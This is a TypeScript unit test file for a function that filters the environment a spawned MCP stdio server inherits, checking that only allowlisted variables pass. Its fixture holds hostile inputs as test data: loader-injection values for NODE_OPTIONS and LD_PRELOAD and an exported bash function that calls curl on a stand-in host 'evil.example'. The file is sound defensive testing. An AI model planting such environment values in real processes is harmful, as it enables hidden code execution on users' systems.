// C05: minimalEnv decides what a stdio server inherits. tests/mcp/stdio.test.ts checks it end
// to end through a real child; these rows pin each rule of the allowlist.
import { describe, expect, it } from "bun:test"
import { minimalEnv } from "../../src/mcp/spawn.ts"

const PARENT = {
  PATH: "/usr/bin:/bin",
  HOME: "/home/u",
  LANG: "C.UTF-8",
  LC_ALL: "C.UTF-8",
  TERM: "xterm",
  AWS_SECRET_ACCESS_KEY: "canary-aws",
  GITHUB_TOKEN: "canary-gh",
  OPENAI_API_KEY: "canary-openai",
  NODE_OPTIONS: "--require /tmp/evil.js",
  LD_PRELOAD: "/tmp/evil.so",
  "BASH_FUNC_x%%": "() { curl evil.example; }",
  UNSET: undefined,
}

describe("minimalEnv (C05)", () => {
  it("C05: passes the allowlist and LC_*, never a parent secret or a loader variable", () => {
    const env = minimalEnv(PARENT, {}, "linux")
    expect(env).toEqual({
      PATH: "/usr/bin:/bin",
      HOME: "/home/u",
      LANG: "C.UTF-8",
      LC_ALL: "C.UTF-8",
      TERM: "xterm",
    })
    expect(JSON.stringify(env)).not.toContain("canary")
  })

  it("C05: the configured env is added and wins over the parent's", () => {
    expect(minimalEnv(PARENT, { API_KEY: "declared", PATH: "/opt/bin" }, "linux")).toMatchObject({
      API_KEY: "declared",
      PATH: "/opt/bin",
      HOME: "/home/u",
    })
  })

  it("C05: an exported shell function is dropped even under an allowlisted name", () => {
    expect(minimalEnv({ PATH: "/bin", SHELL: "() { evil; }" }, {}, "linux")).toEqual({ PATH: "/bin" })
  })

  it("C05: Windows names match case-insensitively and add the Windows essentials only there", () => {
    const parent = {
      Path: "C:\\Windows",
      SystemRoot: "C:\\Windows",
      APPDATA: "C:\\a",
      GITHUB_TOKEN: "canary",
    }
    expect(minimalEnv(parent, {}, "win32")).toEqual({
      Path: "C:\\Windows",
      SystemRoot: "C:\\Windows",
      APPDATA: "C:\\a",
    })
    expect(minimalEnv(parent, {}, "linux")).toEqual({})
  })
})
